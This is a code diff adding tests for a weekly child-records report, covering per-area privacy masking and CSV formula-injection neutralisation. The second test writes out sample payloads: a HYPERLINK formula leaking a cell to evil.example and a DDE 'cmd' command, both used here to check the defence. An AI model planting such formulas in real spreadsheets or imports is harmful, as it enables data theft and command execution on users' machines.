@@ -87,8 +87,25 @@ describe('weekly reports', () => {
     expect(wb.worksheets[1]!.rowCount).toBe(1 + (await h.store.count('children', [['areaCode', '==', '1001']])));
   });
 
-  it('admins get the national view', async () => {
+  it('admins get the national view per area (no child rows), and one area\'s child list on request', async () => {
     const res = await h.api(ADMIN).get('/reports/weekly?kind=friday').expect(200);
     expect(res.text).toContain('ทั้งประเทศ');
+    expect(res.text).toContain('สพป.เชียงราย เขต 1');
+    const someone = (await h.store.query<Child>('children', { limit: 1 }))[0]!.data;
+    expect(res.text).not.toContain(someone.lastName);
+    const area = await h.api(ADMIN).get(`/reports/weekly?kind=friday&area=${someone.areaCode}`).expect(200);
+    expect(area.text.split('\n').filter((l) => l.includes(someone.areaName) || /^\d+,x-xxxx/.test(l)).length).toBeGreaterThan(1);
+    expect((area.text.match(/x-xxxx-xxxx/g) ?? []).length).toBe(await h.store.count('children', [['areaCode', '==', someone.areaCode]]));
+  });
+
+  it('neutralises spreadsheet formulas that an imported list carried (=, +, -, @)', async () => {
+    const child = (await h.store.query<Child>('children', { where: [['areaCode', '==', '1001']], limit: 4 })).map((c) => c.data);
+    const evil = ['=HYPERLINK("http://evil.example/"&C3,"คลิก")', "=cmd|' /C calc'!A0", '+SUM(1+1)', '@SUM(1)'];
+    await h.store.batch(child.map((c, i) => ({ kind: 'update' as const, path: `children/${c.id}`, data: { firstName: evil[i]! } })));
+    const res = await h.api(AREA_COORD).get('/reports/weekly?kind=friday&format=csv').expect(200);
+    for (const e of evil) {
+      expect(res.text).not.toMatch(new RegExp(`(^|,)"?${e.slice(0, 4).replace(/[+|()]/g, '\\$&')}`, 'm'));
+      expect(res.text).toContain(`'${e.slice(0, 4)}`);
+    }
   });
 });
